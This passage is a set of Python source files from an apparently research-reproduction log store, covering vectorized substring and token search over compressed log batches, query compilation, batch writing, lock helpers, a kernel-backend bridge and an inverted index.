        separator: occurrence starts are needle bytes, which exclude \\n)."""
        return np.searchsorted(self.line_ends, offsets, side="right")

    def line_text(self, i: int) -> str:
        return self.buf[self.line_starts[i] : self.line_ends[i]].decode(
            "utf-8", "replace"
        )

    def lines_at(self, idx: np.ndarray) -> list[str]:
        """Decode the given sorted line indices; contiguous runs decode as
        ONE slice + split, so the cost scales with the hit count (hits
        cluster by batch), not the slab size.  Identical to per-line decodes:
        multi-byte UTF-8 sequences never span ``\\n`` (0x0A is unambiguous in
        UTF-8), so splitting before or after decoding replaces invalid
        sequences the same way.
        """
        if not idx.size:
            return []
        starts, ends, buf = self.line_starts, self.line_ends, self.buf
        breaks = np.flatnonzero(np.diff(idx) != 1)
        run_a = starts[np.concatenate([idx[:1], idx[breaks + 1]])]
        run_b = ends[np.concatenate([idx[breaks], idx[-1:]])]
        parts = [buf[a:b] for a, b in zip(run_a.tolist(), run_b.tolist())]
        # one decode + one split over the joined runs: truncated UTF-8 at a
        # run edge is always followed by \n, so "replace" yields byte-for-byte
        # the same text as decoding each run separately
        return b"\n".join(parts).decode("utf-8", "replace").split("\n")

    def occurrence_starts(self, needle: bytes, spans: np.ndarray | None = None) -> np.ndarray:
        """Start offsets of case-insensitive occurrences of ``needle``.

        A ``bytes.find`` loop over the lowercased slab — one memchr-speed
        pass plus a Python step per occurrence, which beats numpy's
        compare-and-gather (several full-width boolean passes) except for
        pathologically common needles.  Case folding via ``lower_buf``
        exactly mirrors ``str.lower`` on ASCII; matches cannot cross lines
        (no needle byte equals ``\\n``).  ``spans`` restricts the scan to
        the given byte ranges (payload-aligned, so no match is truncated).
        """
        if len(needle) > self.arr.size:
            return np.empty(0, dtype=np.int64)
        buf = self.lower_buf
        find = buf.find
        out: list[int] = []
        for lo, hi in spans if spans is not None else ((0, len(buf)),):
            pos = find(needle, lo, hi)
            while pos >= 0:
                out.append(pos)
                pos = find(needle, pos + 1, hi)
        return np.asarray(out, dtype=np.int64)

    def occurrence_lines(self, needle: bytes, spans: np.ndarray | None = None) -> np.ndarray:
        mask = np.zeros(self.n_lines, dtype=bool)
        starts = self.occurrence_starts(needle, spans)
        if starts.size:
            mask[self.line_of(starts)] = True
        return mask

    def token_lines(self, needle: bytes, spans: np.ndarray | None = None) -> np.ndarray:
        """Lines where ``needle`` (a single ``[a-z0-9]+`` run) occurs as a
        maximal alnum run — i.e. as a full §5.1.1 rule-1 token."""
        starts = self.occurrence_starts(needle, spans)
        mask = np.zeros(self.n_lines, dtype=bool)
        if not starts.size:
            return mask
        arr, k = self.arr, len(needle)
        prev = arr[np.maximum(starts - 1, 0)]
        left_ok = (starts == 0) | ~_ALNUM_BYTE[prev]
        after = starts + k
        nxt = arr[np.minimum(after, arr.size - 1)]
        right_ok = (after >= arr.size) | ~_ALNUM_BYTE[nxt]
        ok = starts[left_ok & right_ok]
        if ok.size:
            mask[self.line_of(ok)] = True
        return mask

    def group_lines(self, name: str) -> np.ndarray:
        sel = np.fromiter((g == name for g in self.groups), dtype=bool, count=len(self.groups))
        return sel[self.line_batch]


# -- query compilation: AST → per-line (maybe, definitely) masks --------------------


def _const(value: bool) -> "NodeFn":
    def node(slab: Slab, spans: np.ndarray | None = None) -> tuple[np.ndarray, np.ndarray]:
        m = np.full(slab.n_lines, value, dtype=bool)
        return m, m

    return node


def _compile(query: Query) -> "NodeFn":
    """Compile the AST to ``node(slab, spans) -> (maybe, definitely)`` line
    masks.  ``spans`` bounds the occurrence scans to the caller's candidate
    byte ranges; masks are still slab-wide, and lines outside the spans carry
    no guarantee — the caller intersects with its candidate-line mask."""
    # local import: querylang can't import logstore at module level
    from ..core import querylang as ql

    if isinstance(query, (ql.Term, ql.Contains)):
        text = query.text.lower()  # repro: allow[R4] query-side fold paired with the slab's line-side fold; non-ASCII needles route to nonascii_lines (exact path) below
        is_term = isinstance(query, ql.Term)
        if not text or "\n" in text:
            # "" is in every line (but never a token); a needle with \n can
            # never occur inside one line
            return _const(bool(not is_term and not text))
        try:
            needle = text.encode("ascii")
        except UnicodeEncodeError:
            # non-ASCII needle ⇒ any match lies on a non-ASCII line, and
            # those always take the exact path
            def node(slab: Slab, spans: np.ndarray | None = None) -> tuple[np.ndarray, np.ndarray]:
                return slab.nonascii_lines, np.zeros(slab.n_lines, dtype=bool)

            return node
        if not is_term:

            def node(slab: Slab, spans: np.ndarray | None = None) -> tuple[np.ndarray, np.ndarray]:
                m = slab.occurrence_lines(needle, spans)
                return m, m

            return node
        if is_single_alnum_run(text):

            def node(slab: Slab, spans: np.ndarray | None = None) -> tuple[np.ndarray, np.ndarray]:
                m = slab.token_lines(needle, spans)
                return m, m

            return node

        # multi-run term: the substring scan bounds it; survivors re-tokenize
        def node(slab: Slab, spans: np.ndarray | None = None) -> tuple[np.ndarray, np.ndarray]:
            return (
                slab.occurrence_lines(needle, spans),
                np.zeros(slab.n_lines, dtype=bool),
            )

        return node
    if isinstance(query, ql.Source):
        name = query.name

        def node(slab: Slab, spans: np.ndarray | None = None) -> tuple[np.ndarray, np.ndarray]:
            m = slab.group_lines(name)
            return m, m

        return node
    if isinstance(query, ql.And):
        if not query.children:
            return _const(True)
        kids = [_compile(c) for c in query.children]

        def node(slab: Slab, spans: np.ndarray | None = None) -> tuple[np.ndarray, np.ndarray]:
            maybe = definite = None
            for kid in kids:
                m, d = kid(slab, spans)
                maybe = m if maybe is None else maybe & m
                definite = d if definite is None else definite & d
            return maybe, definite

        return node
    if isinstance(query, ql.Or):
        if not query.children:
            return _const(False)
        kids = [_compile(c) for c in query.children]

        def node(slab: Slab, spans: np.ndarray | None = None) -> tuple[np.ndarray, np.ndarray]:
            maybe = definite = None
            for kid in kids:
                m, d = kid(slab, spans)
                maybe = m if maybe is None else maybe | m
                definite = d if definite is None else definite | d
            return maybe, definite

        return node
    if isinstance(query, ql.Not):
        kid = _compile(query.child)

        def node(slab: Slab, spans: np.ndarray | None = None) -> tuple[np.ndarray, np.ndarray]:
            m, d = kid(slab, spans)
            return ~d, ~m

        return node
    raise TypeError(f"unknown query node: {query!r}")


class CompiledPredicate:
    """Per-line predicate + its vectorized batch evaluator.

    Drop-in for the bare ``pred(line_lower, source)`` callable that
    ``_filter_batches`` implementations receive: calling it evaluates one
    line exactly (the tail/unsealed path), while the sealed path recognizes
    the wrapper and routes whole payload slabs through the byte-level
    evaluator.  ``payloads`` is the decompressed-payload cache shared across
    one ``search_many`` call (one decompression per candidate batch per
    *search*, preserving the paper's false-positive cost accounting).
    """

    def __init__(self, query: Query, payload_cache: dict[int, bytes] | None = None) -> None:
        self.query = query
        self.line_pred = line_predicate(query)
        self.vector = _compile(query)
        self.payloads: dict[int, bytes] = (
            payload_cache if payload_cache is not None else {}
        )
        #: slabs shared across the queries of one ``search_many`` call
        #: (set by ``execute_search``; None → build per-query slabs)
        self.slab_union: SlabUnion | None = None
        self.n_lines_scanned = 0
        self.n_lines_exact = 0

    def __call__(self, line_lower: str, source: str) -> bool:
        return self.line_pred(line_lower, source)

    def payload(self, batch: Any) -> bytes:
        p = self.payloads.get(batch.batch_id)
        if p is None:
            p = decompress(batch.payload)
            self.payloads[batch.batch_id] = p
        return p


class SlabUnion:
    """Canonical slabs over the union of one ``search_many`` call's
    candidate batches, shared by every query in the call.

    Each query in a batched call largely re-reads the batches its siblings
    already verified; without sharing, every query re-joins, re-lowercases
    and re-indexes the same decompressed bytes.  The union is chunked once
    (``SLAB_TARGET_BYTES``), each chunk's :class:`Slab` is built lazily on
    first use, and a query then scans only the byte spans of *its own*
    candidate batches inside the shared slab (``Slab.spans_for``), masking
    results to its candidate lines — so per-query work stays proportional
    to the query's own candidates while construction amortizes across the
    call.  Like the payload cache, the union never outlives its call.
    """

    def __init__(self, union_ids: list[int]) -> None:
        self._union = union_ids  # sorted ascending
        # single-thread ownership: slabs build lazily with no internal
        # locking, so cross-thread use would race — fan-out workers must
        # bypass the union (filter_sealed_vectorized(use_shared=False)).
        # Fail loudly instead of corrupting silently.
        self._owner = threading.get_ident()
        self._batches = None
        self.chunks: list[list[int]] = []
        self.index: dict[int, tuple[int, int]] = {}
        self._slabs: list[Slab | None] = []

    def bind(self, batches: "Mapping[int, Any]") -> bool:
        """Bind to a concrete sealed-batch mapping on first use; True when
        this call's ``batches`` is the mapping the union was built over."""
        self._assert_owner()
        if self._batches is None:
            self._batches = batches
            sealed = [bid for bid in self._union if batches.get(bid) is not None]
            self.chunks = _chunk_by_bytes(sealed, batches)
            self.index = {
                bid: (ci, pi)
                for ci, chunk in enumerate(self.chunks)
                for pi, bid in enumerate(chunk)
            }
            self._slabs = [None] * len(self.chunks)
        return self._batches is batches

    def slab(self, ci: int, pred: "CompiledPredicate") -> Slab:
        self._assert_owner()
        s = self._slabs[ci]
        if s is None:
            bs = [self._batches[bid] for bid in self.chunks[ci]]
            s = Slab([pred.payload(b) for b in bs], [b.group for b in bs])
            self._slabs[ci] = s
        return s

    def _assert_owner(self) -> None:
        if threading.get_ident() != self._owner:
            raise RuntimeError(
                "SlabUnion accessed from a second thread: the shared-slab "
                "cache is single-thread state scoped to one search_many "
                "call — parallel workers must pass use_shared=False "
                "(see docs/invariants.md)"
            )


def _chunk_by_bytes(ids: list[int], batches: "Mapping[int, Any]") -> list[list[int]]:
    chunks: list[list[int]] = []
    cur: list[int] = []
    cur_bytes = 0
    for bid in ids:
        cur.append(bid)
        cur_bytes += batches[bid].raw_bytes
        if cur_bytes >= SLAB_TARGET_BYTES:
            chunks.append(cur)
            cur, cur_bytes = [], 0
    if cur:
        chunks.append(cur)
    return chunks


def _resolve_hits(
    slab: Slab, hits: np.ndarray, uncertain: np.ndarray, pred: CompiledPredicate
) -> list[str]:
    """Exact-check the uncertain lines, then decode every hit."""
    pred.n_lines_exact += uncertain.size
    if uncertain.size:
        line_pred, groups = pred.line_pred, slab.groups
        line_text, line_batch = slab.line_text, slab.line_batch
        for i in uncertain.tolist():
            if line_pred(line_text(i).lower(), groups[line_batch[i]]):  # repro: allow[R4] exact-path verify: same canonical str.lower fold as tokenize_line on both index and query sides
                hits[i] = True
    return slab.lines_at(np.flatnonzero(hits))


def _filter_shared(
    union: SlabUnion, batch_ids: Iterable[int], pred: CompiledPredicate
) -> tuple[list[str], int]:
    """Per-query verify against the call-shared slabs: scan only this
    query's candidate spans, mask every verdict to its candidate lines."""
    by_chunk: dict[int, list[int]] = {}
    n_ids = 0
    index = union.index
    for bid in batch_ids:
        loc = index.get(bid)
        if loc is None:
            continue
        n_ids += 1
        by_chunk.setdefault(loc[0], []).append(loc[1])
    out: list[str] = []
    for ci in sorted(by_chunk):
        slab = union.slab(ci, pred)
        pos = np.asarray(by_chunk[ci], dtype=np.int64)
        cand = slab.payload_line_mask(pos)
        maybe, definite = pred.vector(slab, slab.spans_for(pos))
        nonascii = slab.nonascii_lines
        hits = definite & cand & ~nonascii
        uncertain = np.flatnonzero(cand & (nonascii | (maybe & ~definite)))
        pred.n_lines_scanned += int(np.count_nonzero(cand))
        out.extend(_resolve_hits(slab, hits, uncertain, pred))
    return out, n_ids


def filter_sealed_vectorized(
    batches: "Mapping[int, Any]",
    batch_ids: Iterable[int],
    pred: CompiledPredicate,
    use_shared: bool = True,
) -> tuple[list[str], int]:
    """Vectorized body of ``filter_sealed_batches``: same contract —
    matching lines in batch-id order plus the number of batches verified."""
    union = pred.slab_union if use_shared else None
    if union is not None and union.bind(batches):
        return _filter_shared(union, batch_ids, pred)
    ids = [bid for bid in batch_ids if batches.get(bid) is not None]
    out: list[str] = []
    for chunk in _chunk_by_bytes(ids, batches):
        payloads = [pred.payload(batches[bid]) for bid in chunk]
        groups = [batches[bid].group for bid in chunk]
        slab = Slab(payloads, groups)
        maybe, definite = pred.vector(slab)
        nonascii = slab.nonascii_lines
        hits = definite & ~nonascii
        uncertain = np.flatnonzero(nonascii | (maybe & ~definite))
        pred.n_lines_scanned += slab.n_lines
        out.extend(_resolve_hits(slab, hits, uncertain, pred))
    return out, len(ids)
