"""Compressed log batches + Boyer-Moore post-filtering (paper §5).

Log lines are grouped (by source when available — §5's data sets carry a
source identifier precisely to improve compression locality) into batches of
``lines_per_batch`` lines; each sealed batch is zstd-compressed.  The batch id
is the *posting* the sketches index.  Queries decompress candidate batches and
post-filter with Boyer-Moore-Horspool, so every false positive costs a real
decompression — the paper's fairness requirement.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING, Iterable, Iterator, Sequence

if TYPE_CHECKING:
    from .templates import PayloadCodec

try:
    import zstandard

    _CCTX = zstandard.ZstdCompressor(level=3)
    _DCTX = zstandard.ZstdDecompressor()

    def compress(data: bytes) -> bytes:
        return _CCTX.compress(data)

    def decompress(data: bytes) -> bytes:
        return _DCTX.decompress(data)

    COMPRESSION = "zstd"
except ImportError:  # zstd unavailable → stdlib zlib, same interface
    import zlib

    def compress(data: bytes) -> bytes:
        return zlib.compress(data, 6)

    def decompress(data: bytes) -> bytes:
        return zlib.decompress(data)

    COMPRESSION = "zlib"


def boyer_moore_horspool(text: str, pattern: str) -> bool:
    """BMH substring search (Boyer & Moore 1977 family, §5 post-filter).

    Kept for fidelity + tests; `contains_fast` (C-speed ``in``) computes the
    same predicate and is used on the hot path.
    """
    m, n = len(pattern), len(text)
    if m == 0:
        return True
    if m > n:
        return False
    shift = {}
    for i in range(m - 1):
        shift[pattern[i]] = m - 1 - i
    i = m - 1
    last = pattern[-1]
    while i < n:
        c = text[i]
        if c == last and text[i - m + 1 : i + 1] == pattern:
            return True
        i += shift.get(c, m)
    return False


def contains_fast(text: str, pattern: str) -> bool:
    return pattern in text


@dataclass
class SealedBatch:
    batch_id: int
    n_lines: int
    raw_bytes: int
    # raw codec: compressed newline-joined lines; template codec: the
    # variables blob.  A reopened store passes an mmap slice (memoryview) so
    # payload bytes stay on disk until a query post-filters the batch.
    payload: bytes | memoryview
    group: str = ""  # source/group key the batch was written under
    codec: str = "raw"  # payload codec name (see templates.PayloadCodec)
    tpl: "bytes | memoryview | None" = None  # template codec: dictionary blob

    def payload_bytes(self) -> bytes:
        """The newline-joined line bytes — identical across codecs (the
        byte-identity invariant every codec must preserve)."""
        if self.codec == "raw":
            return decompress(self.payload)
        from .templates import reconstruct_blob

        assert self.tpl is not None
        return reconstruct_blob(self.tpl, self.payload)

    def lines(self) -> list[str]:
        return self.payload_bytes().decode("utf-8", "replace").split("\n")

    def search(self, pattern: str, *, lowercase: bool = True) -> list[str]:
        pat = pattern.lower() if lowercase else pattern  # repro: allow[R4] symmetric fold: pattern and line fold with the same str.lower (see next line), so non-ASCII folds cannot diverge
        out = []
        for ln in self.lines():
            hay = ln.lower() if lowercase else ln  # repro: allow[R4] symmetric fold with the pattern-side str.lower above
            if contains_fast(hay, pat):
                out.append(ln)
        return out


class BatchWriter:
    """Accumulates lines per group key and seals fixed-size batches.

    Each open group owns a batch id reserved at its first line, so tokens can
    be indexed under their final posting id while the batch is still open.
    """

    def __init__(
        self,
        lines_per_batch: int = 512,
        max_batches: int | None = None,
        codec: "PayloadCodec | None" = None,
    ) -> None:
        from .templates import PayloadCodec, RawCodec

        self.lines_per_batch = lines_per_batch
        self.max_batches = max_batches
        self.codec: PayloadCodec = codec if codec is not None else RawCodec()
        self.open: dict[str, list[str]] = {}
        self.sealed: list[SealedBatch] = []
        self._group_ids: dict[str, int] = {}
        self._next_id = 0

    def add(self, line: str, group: str = "") -> int:
        """Append a line; returns the batch/posting id it belongs to."""
        bid = self._group_ids.get(group)
        if bid is None:
            bid = self._group_ids[group] = self._alloc_id()
        buf = self.open.setdefault(group, [])
        buf.append(line)
        if len(buf) >= self.lines_per_batch:
            self._seal_group(group)
        return bid

    def _alloc_id(self) -> int:
        i = self._next_id
        self._next_id += 1
        if self.max_batches is not None and i >= self.max_batches:
            raise RuntimeError(
                "batch budget exceeded — raise max_postings or lines_per_batch"
            )
        return i

    def _seal_group(self, group: str) -> None:
        lines = self.open.pop(group, [])
        if not lines:
            return
        bid = self._group_ids.pop(group)
        raw_bytes = len("\n".join(lines).encode("utf-8"))
        payload, tpl = self.codec.seal(group, lines)
        self.sealed.append(
            SealedBatch(
                batch_id=bid,
                n_lines=len(lines),
                raw_bytes=raw_bytes,
                payload=payload,
                group=group,
                codec=self.codec.name,
                tpl=tpl,
            )
        )

    @property
    def n_batches(self) -> int:
        return self._next_id

    def restore_next_id(self, next_id: int) -> None:
        """Resume id allocation at ``next_id`` (reopening a persisted store)."""
        self._next_id = next_id

    def known_ids(self) -> set[int]:
        """Batch ids live in the writer: sealed-but-unpublished + open groups."""
        return {b.batch_id for b in self.sealed} | set(self._group_ids.values())

    def id_groups(self) -> dict[int, str]:
        """batch id → source/group for every id the writer still holds."""
        out = {b.batch_id: b.group for b in self.sealed}
        for group, bid in self._group_ids.items():
            out[bid] = group
        return out

    def open_tail(self) -> list[tuple[int, str, tuple[str, ...]]]:
        """Frozen copy of the open group buffers: ``(bid, group, lines)`` per
        still-open batch.  Callers must hold the store's writer lock; the
        returned tuples are immutable (snapshot isolation)."""
        return [
            (bid, group, tuple(self.open.get(group, ())))
            for group, bid in self._group_ids.items()
        ]

    def iter_unsealed(
        self, batch_ids: Iterable[int]
    ) -> "Iterator[tuple[int, str, Sequence[str]]]":
        """Yield ``(batch_id, group, lines)`` for requested ids not yet
        published by ``finish()``: sealed ones still sitting in the writer
        plus still-open group buffers.  This is what makes stores
        live-queryable mid-ingest."""
        ids = set(batch_ids)
        for b in self.sealed:
            if b.batch_id in ids:
                yield b.batch_id, b.group, b.lines()
        for group, bid in self._group_ids.items():
            if bid in ids:
                yield bid, group, self.open.get(group, [])

    def finish(self) -> list[SealedBatch]:
        for group in list(self.open):
            self._seal_group(group)
        self.sealed.sort(key=lambda b: b.batch_id)
        return self.sealed
