"""Lock construction for the stores: plain stdlib locks by default,
instrumented ones under ``REPRO_LOCKCHECK=1``.

The instrumented variants (``tools.analysis.lockcheck``) record a global
lock-acquisition-order graph and raise on the first lock-order inversion —
the dynamic complement to the static R1 lock-discipline rule.  The stress
tests and ``benchmarks/bench_concurrency.py`` run with the env var set;
production paths pay nothing (one env check per *store*, not per acquire).

``tools`` lives at the repo root, outside the installed package, so the
import is best-effort: enabling the env var without the repo checkout falls
back to plain locks rather than failing.
"""

from __future__ import annotations

import os
import threading
from typing import Any


def lockcheck_enabled() -> bool:
    """True when ``REPRO_LOCKCHECK`` requests instrumented locks."""
    return os.environ.get("REPRO_LOCKCHECK", "").strip().lower() in (  # repro: allow[R4] env-var flag parsing, not log-line text — folding a config token is not on the exactness path
        "1",
        "true",
        "yes",
        "on",
    )


def _checked(kind: str, name: str) -> Any | None:
    try:
        from tools.analysis import lockcheck
    except ImportError:
        return None
    cls = lockcheck.CheckedRLock if kind == "rlock" else lockcheck.CheckedLock
    return cls(name)


def make_rlock(name: str) -> Any:
    """A reentrant lock, instrumented when lock checking is on."""
    if lockcheck_enabled():
        got = _checked("rlock", name)
        if got is not None:
            return got
    return threading.RLock()


def make_lock(name: str) -> Any:
    """A non-reentrant lock, instrumented when lock checking is on."""
    if lockcheck_enabled():
        got = _checked("lock", name)
        if got is not None:
            return got
    return threading.Lock()
