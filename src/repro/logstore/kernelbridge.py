"""Lazy bridge from the Query→Plan→Result hot path to ``repro.kernels.ops``.

The planner's inner loops (sealed-sketch probes, posting-bitset AND folds)
dispatch through here.  Two backends, selected by ``REPRO_KERNEL_BACKEND``:

* ``numpy`` (default) — the vectorized host implementations
  (``ImmutableSketch.probe``, ``np.bitwise_and.reduce``).  On this CoreSim
  container the Bass interpreter is orders of magnitude slower than numpy,
  so numpy IS the fast CPU path.
* ``bass`` — the device kernels via :mod:`repro.kernels.ops`
  (``make_probe`` → ``sketch_probe``, ``bitset_and_reduce`` →
  ``bitset_intersect``).  On real trn hardware this is the fast path; under
  CoreSim it exists for bit-exact parity coverage (the kernel↔ref tests and
  the planner-equivalence test in ``tests/test_segments.py``).

Imports of :mod:`repro.kernels` (which pulls in jax + concourse) happen
lazily and only for the ``bass`` backend, so default runs never pay the
toolchain import and environments without it keep working — the numpy
fallback is always available.
"""

from __future__ import annotations

import os
from types import ModuleType
from typing import Any, Callable

import numpy as np

_OPS = None
_OPS_FAILED = False


def backend() -> str:
    """Active kernel backend for the log-store hot path."""
    return os.environ.get("REPRO_KERNEL_BACKEND", "numpy").strip() or "numpy"


def _ops() -> ModuleType | None:
    """``repro.kernels.ops`` or ``None`` when the toolchain is unavailable."""
    global _OPS, _OPS_FAILED
    if _OPS is None and not _OPS_FAILED:
        try:
            from ..kernels import ops as mod
        except Exception:  # jax / concourse missing — numpy fallback
            _OPS_FAILED = True
        else:
            _OPS = mod
    return _OPS


def probe_fn(reader: Any) -> Callable[[np.ndarray], np.ndarray]:
    """Rank-probe function for one sealed ``ImmutableSketch``.

    Memoized on the reader (the ``bass`` path builds a jit closure over the
    sketch's packed tables once, not per query).  Sketches the device kernel
    cannot serve (16-bit signatures, MPHF fallback keys) transparently use
    the host probe — dispatch never changes results, only where they run.
    """
    fn = getattr(reader, "_hot_probe", None)
    if fn is not None:
        return fn
    fn = reader.probe
    if backend() == "bass":
        ops = _ops()
        if ops is not None:
            fn = ops.make_probe(reader, backend="bass")
    try:
        reader._hot_probe = fn
    except AttributeError:  # exotic reader without a __dict__ — skip memoizing
        pass
    return fn


def fingerprint_spans(
    slab: np.ndarray, starts: np.ndarray, lengths: np.ndarray
) -> np.ndarray:
    """Fingerprint many byte spans in one call (dispatched).

    The batched-ingest fingerprint primitive: crc32+lowbias32 per span,
    bit-identical to scalar ``fingerprint32`` (``numpy`` runs
    ``core.hashing.fingerprint_spans``; ``bass`` routes through
    ``kernels.ops.token_fingerprint``, whose oracle is
    ``ref.token_fingerprint_ref``)."""
    if backend() == "bass":
        ops = _ops()
        if ops is not None:
            return ops.token_fingerprint(slab, starts, lengths, backend="bass")
    from ..core.hashing import fingerprint_spans as _host

    return _host(slab, starts, lengths)


#: batches smaller than this skip slab construction — the per-line scalar
#: path has no fixed numpy setup cost, so it wins for tiny batches (and for
#: the single-line ``ingest()`` shim)
_MIN_SLAB_LINES = 4


def fingerprint_lines(lines: list[str]) -> tuple[list[np.ndarray], np.ndarray]:
    """Tokenize + fingerprint a batch of lines in one vectorized pass.

    Returns ``(rows, raw_counts)``: per line, the SORTED UNIQUE uint32
    fingerprints of ``tokenize_line(line)``, and the RAW token count
    (``len(tokenize_line(line))`` — what the sketch's memory-check cadence
    advances by).  Falls back to the per-line path for tiny batches and for
    inputs the slab cannot represent (embedded newlines, lone surrogates);
    either way the results are identical.
    """
    from ..core.hashing import fingerprint_tokens
    from .tokenizer import line_token_spans, tokenize_line

    n = len(lines)
    if n == 0:
        return [], np.zeros(0, dtype=np.int64)
    spans = line_token_spans(lines) if n >= _MIN_SLAB_LINES else None
    if spans is None:
        rows: list[np.ndarray] = []
        counts = np.zeros(n, dtype=np.int64)
        for i, line in enumerate(lines):
            toks = tokenize_line(line)
            counts[i] = len(toks)
            rows.append(
                np.unique(fingerprint_tokens(toks))
                if toks
                else np.empty(0, dtype=np.uint32)
            )
        return rows, counts
    slab, starts, lengths, line_ids = spans
    fps = fingerprint_spans(slab, starts, lengths)
    counts = np.bincount(line_ids, minlength=n).astype(np.int64)
    order = np.lexsort((fps, line_ids))
    lid = line_ids[order]
    f = fps[order]
    if f.size:
        keep = np.ones(f.size, dtype=bool)
        keep[1:] = (f[1:] != f[:-1]) | (lid[1:] != lid[:-1])
        lid = lid[keep]
        f = f[keep]
    uniq_counts = np.bincount(lid, minlength=n)
    return np.split(f, np.cumsum(uniq_counts)[:-1]), counts


def and_reduce(bitsets: np.ndarray) -> np.ndarray:
    """AND-fold ``[T, W]`` packed-uint64 bitsets → ``[W]`` (dispatched)."""
    bs = np.asarray(bitsets, dtype=np.uint64)
    if bs.ndim == 1:
        return bs.copy()
    if bs.shape[0] == 1:
        return bs[0].copy()
    if backend() == "bass":
        ops = _ops()
        if ops is not None:
            return ops.bitset_and_reduce(bs, backend="bass")
    return np.bitwise_and.reduce(bs, axis=0)
