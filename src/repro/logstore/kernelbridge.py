"""Lazy bridge from the Query→Plan→Result hot path to ``repro.kernels.ops``.

The planner's inner loops (sealed-sketch probes, posting-bitset AND folds)
dispatch through here.  Two backends, selected by ``REPRO_KERNEL_BACKEND``:

* ``numpy`` (default) — the vectorized host implementations
  (``ImmutableSketch.probe``, ``np.bitwise_and.reduce``).  On this CoreSim
  container the Bass interpreter is orders of magnitude slower than numpy,
  so numpy IS the fast CPU path.
* ``bass`` — the device kernels via :mod:`repro.kernels.ops`
  (``make_probe`` → ``sketch_probe``, ``bitset_and_reduce`` →
  ``bitset_intersect``).  On real trn hardware this is the fast path; under
  CoreSim it exists for bit-exact parity coverage (the kernel↔ref tests and
  the planner-equivalence test in ``tests/test_segments.py``).

Imports of :mod:`repro.kernels` (which pulls in jax + concourse) happen
lazily and only for the ``bass`` backend, so default runs never pay the
toolchain import and environments without it keep working — the numpy
fallback is always available.
"""

from __future__ import annotations

import os
from types import ModuleType
from typing import Any, Callable

import numpy as np

_OPS = None
_OPS_FAILED = False


def backend() -> str:
    """Active kernel backend for the log-store hot path."""
    return os.environ.get("REPRO_KERNEL_BACKEND", "numpy").strip() or "numpy"


def _ops() -> ModuleType | None:
    """``repro.kernels.ops`` or ``None`` when the toolchain is unavailable."""
    global _OPS, _OPS_FAILED
    if _OPS is None and not _OPS_FAILED:
        try:
            from ..kernels import ops as mod
        except Exception:  # jax / concourse missing — numpy fallback
            _OPS_FAILED = True
        else:
            _OPS = mod
    return _OPS


def probe_fn(reader: Any) -> Callable[[np.ndarray], np.ndarray]:
    """Rank-probe function for one sealed ``ImmutableSketch``.

    Memoized on the reader (the ``bass`` path builds a jit closure over the
    sketch's packed tables once, not per query).  Sketches the device kernel
    cannot serve (16-bit signatures, MPHF fallback keys) transparently use
    the host probe — dispatch never changes results, only where they run.
    """
    fn = getattr(reader, "_hot_probe", None)
    if fn is not None:
        return fn
    fn = reader.probe
    if backend() == "bass":
        ops = _ops()
        if ops is not None:
            fn = ops.make_probe(reader, backend="bass")
    try:
        reader._hot_probe = fn
    except AttributeError:  # exotic reader without a __dict__ — skip memoizing
        pass
    return fn


def and_reduce(bitsets: np.ndarray) -> np.ndarray:
    """AND-fold ``[T, W]`` packed-uint64 bitsets → ``[W]`` (dispatched)."""
    bs = np.asarray(bitsets, dtype=np.uint64)
    if bs.ndim == 1:
        return bs.copy()
    if bs.shape[0] == 1:
        return bs[0].copy()
    if backend() == "bass":
        ops = _ops()
        if ops is not None:
            return ops.bitset_and_reduce(bs, backend="bass")
    return np.bitwise_and.reduce(bs, axis=0)
