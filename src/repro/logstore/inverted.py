"""Inverted-index baseline (Lucene-class, paper §2.1 / §5).

Lexicon keeps *full* terms (enabling substring dictionary scans — the Lucene
``contains`` path); posting lists are delta + varint encoded, the standard
compact representation.  No term frequencies / positions are stored, matching
the paper's Lucene configuration ("only increase disk usage").
"""

from __future__ import annotations

import struct
from bisect import bisect_left
from typing import Iterable

import numpy as np

_BLOB_MAGIC = 0x58444956  # "VIDX"
_BLOB_HEADER = struct.Struct("<IIQQ")  # magic, n_terms, term_blob len, post_blob len


def _varint_encode_deltas(postings: list[int], out: bytearray) -> None:
    """Encode a strictly-increasing posting list as varint deltas."""
    prev = -1
    for p in postings:
        d = p - prev
        assert d > 0, "postings must be strictly increasing"
        prev = p
        while True:
            b = d & 0x7F
            d >>= 7
            if d:
                out.append(b | 0x80)
            else:
                out.append(b)
                break


def _varint_decode(buf: memoryview, off: int, count: int) -> np.ndarray:
    out = np.empty(count, dtype=np.int64)
    acc = -1
    for i in range(count):
        shift = 0
        d = 0
        while True:
            b = buf[off]
            off += 1
            d |= (b & 0x7F) << shift
            if not (b & 0x80):
                break
            shift += 7
        acc += d
        out[i] = acc
    return out


class InvertedIndex:
    def __init__(self) -> None:
        self._building: dict[str, list[int]] = {}
        # sealed representation
        self.terms: list[str] | None = None
        self.term_blob: bytes | None = None
        self.post_blob: bytes | None = None
        self.post_offsets: np.ndarray | None = None
        self.post_counts: np.ndarray | None = None

    def add(self, tokens: Iterable[str], batch_id: int) -> None:
        b = self._building
        for t in tokens:
            lst = b.get(t)
            if lst is None:
                b[t] = [batch_id]
            elif lst[-1] != batch_id:
                lst.append(batch_id)

    def add_many(self, token_lists: Iterable[Iterable[str]], batch_ids: Iterable[int]) -> None:
        """Batched :meth:`add`.  ``finish()`` sorts terms and sort-dedups
        postings, so the sealed blob depends only on term→batch membership —
        any insertion order is byte-identical."""
        b = self._building
        for tokens, batch_id in zip(token_lists, batch_ids):
            for t in tokens:
                lst = b.get(t)
                if lst is None:
                    b[t] = [batch_id]
                elif lst[-1] != batch_id:
                    lst.append(batch_id)

    def finish(self) -> None:
        terms = sorted(self._building)
        blob = bytearray()
        offsets = np.zeros(len(terms) + 1, dtype=np.int64)
        counts = np.zeros(len(terms), dtype=np.int32)
        for i, t in enumerate(terms):
            # batch ids interleave across source groups → sort + dedup here
            postings = sorted(set(self._building[t]))
            offsets[i] = len(blob)
            counts[i] = len(postings)
            _varint_encode_deltas(postings, blob)
        offsets[len(terms)] = len(blob)
        self.terms = terms
        self.term_blob = "\x00".join(terms).encode("utf-8")
        self.post_blob = bytes(blob)
        self.post_offsets = offsets
        self.post_counts = counts
        self._building = {}

    def _postings_at(self, i: int) -> np.ndarray:
        return _varint_decode(
            memoryview(self.post_blob), int(self.post_offsets[i]), int(self.post_counts[i])
        )

    def query_term(self, term: str) -> list[int]:
        if self.terms is None:  # pre-finish
            return sorted(set(self._building.get(term, [])))
        i = bisect_left(self.terms, term)
        if i < len(self.terms) and self.terms[i] == term:
            return self._postings_at(i).tolist()
        return []

    def query_substring(self, sub: str) -> list[int]:
